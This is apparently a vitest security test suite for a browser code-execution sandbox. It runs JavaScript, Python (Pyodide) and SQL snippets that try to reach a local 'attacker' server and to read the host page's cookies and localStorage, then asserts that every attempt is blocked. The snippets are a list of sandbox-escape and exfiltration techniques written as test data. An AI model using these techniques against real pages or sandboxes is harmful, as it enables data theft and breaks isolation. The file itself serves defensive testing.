import { afterAll, beforeAll, expect, test } from 'vitest'
import { startStaticServer, type StaticServer } from '../../scripts/static-server.mjs'
import { openRuntimePage, type RuntimePage } from '../support/runtime-page.js'

// User code in every language tries every way out it has. A server on another local origin counts the
// requests that reach it: the runner's CSP must keep that count at zero, and each attempt must fail.
let rp: RuntimePage
let attacker: StaticServer

beforeAll(async () => {
  attacker = await startStaticServer()
  rp = await openRuntimePage({ runtime: { timeoutMs: 20_000 } })
  await rp.page.evaluate(() => {
    document.cookie = 'host_secret=cookie-value; path=/'
    localStorage.setItem('host_secret', 'storage-value')
  })
})
afterAll(async () => {
  await rp?.close()
  await attacker?.close()
})

function attemptsOf(stdout: string): { blocked: string[]; reached: string[] } {
  const lines = stdout.split('\n')
  return {
    blocked: lines.filter((l) => l.startsWith('blocked ')).map((l) => l.slice(8)),
    reached: lines.filter((l) => l.startsWith('REACHED ')).map((l) => l.slice(8)),
  }
}

test('JavaScript user code cannot reach the network, the host page, its cookies or its storage', async () => {
  const url = `${attacker.url}/`
  const code = `
const url = ${JSON.stringify(url)}
const wsUrl = url.replace('http', 'ws')
const attempts = {
  fetch: () => fetch(url + 'js-fetch'),
  fetchNoCors: () => fetch(url + 'js-no-cors', { mode: 'no-cors' }),
  xhr: () => new Promise((ok, fail) => { const x = new XMLHttpRequest(); x.open('GET', url + 'js-xhr'); x.onload = ok; x.onerror = () => fail(new Error('xhr')); x.send() }),
  webSocket: () => new Promise((ok, fail) => { const ws = new WebSocket(wsUrl + 'js-ws'); ws.onopen = ok; ws.onerror = () => fail(new Error('ws')) }),
  eventSource: () => new Promise((ok, fail) => { const es = new EventSource(url + 'js-sse'); es.onopen = ok; es.onerror = () => fail(new Error('sse')) }),
  importScripts: () => self.importScripts(url + 'js-import-scripts.js'),
  dynamicImport: () => import(url + 'js-import.mjs'),
  nestedWorker: () => new Promise((ok, fail) => {
    const src = 'fetch(' + JSON.stringify(url + 'js-nested') + ').then(() => postMessage(1), () => postMessage(0))'
    const w = new Worker(URL.createObjectURL(new Blob([src])))
    w.onmessage = (e) => (e.data === 1 ? ok() : fail(new Error('nested')))
    w.onerror = () => fail(new Error('nested worker'))
  }),
  parentDocument: () => parent.document.title,
  topLocation: () => { top.location.href = url + 'js-top' },
  localStorage: () => localStorage.getItem('host_secret'),
  cookie: () => document.cookie,
  windowOpen: () => window.open(url + 'js-open'),
  indexedDB: () => new Promise((ok, fail) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = () => fail(new Error('idb')) }),
}
for (const [name, attempt] of Object.entries(attempts)) {
  try {
    await attempt()
    console.log('REACHED ' + name)
  } catch {
    console.log('blocked ' + name)
  }
}
`
  const { result } = await rp.run({ language: 'javascript', code })
  expect(result.status).toBe('ok')
  const { blocked, reached } = attemptsOf(result.stdout)
  expect(reached).toEqual([])
  expect(blocked).toHaveLength(14)
  await new Promise((resolve) => setTimeout(resolve, 500))
  expect(attacker.hits).toEqual([])
})

test('Python user code cannot reach the network through js.fetch, pyfetch, open_url or the JS globals', async () => {
  const url = `${attacker.url}/`
  const code = `
import js
from pyodide.http import pyfetch, open_url
url = ${JSON.stringify(url)}

async def attempt(name, action):
    try:
        result = action()
        if hasattr(result, '__await__'):
            await result
        print('REACHED ' + name)
    except BaseException:
        print('blocked ' + name)

await attempt('jsFetch', lambda: js.fetch(url + 'py-js-fetch'))
await attempt('pyfetch', lambda: pyfetch(url + 'py-pyfetch'))
await attempt('openUrl', lambda: open_url(url + 'py-open-url'))
await attempt('xhr', lambda: js.eval("new XMLHttpRequest()"))
await attempt('parentDocument', lambda: js.parent.document.title)
await attempt('cookie', lambda: js.document.cookie)
await attempt('localStorage', lambda: js.localStorage.getItem('host_secret'))
`
  const { result } = await rp.run({ language: 'python', code, timeoutMs: 60_000 })
  expect(result.status).toBe('ok')
  const { blocked, reached } = attemptsOf(result.stdout)
  expect(reached).toEqual([])
  expect(blocked).toHaveLength(7)
  await new Promise((resolve) => setTimeout(resolve, 500))
  expect(attacker.hits).toEqual([])
})

test('SQL user code cannot open files or extensions outside its own database', async () => {
  const outcomes = []
  for (const code of [
    `ATTACH DATABASE '${attacker.url}/sql-attach.db' AS remote; SELECT * FROM remote.sqlite_master;`,
    `SELECT load_extension('${attacker.url}/sql-extension');`,
  ]) {
    outcomes.push((await rp.run({ language: 'sql', code, timeoutMs: 30_000 })).result.status)
  }
  expect(outcomes).toEqual(['error', 'error'])
  expect(attacker.hits).toEqual([])
})

test('the host page keeps its cookie and storage, untouched by any run', async () => {
  const state = await rp.page.evaluate(() => ({
    cookie: document.cookie,
    storage: localStorage.getItem('host_secret'),
  }))
  expect(state).toEqual({ cookie: 'host_secret=cookie-value', storage: 'storage-value' })
})
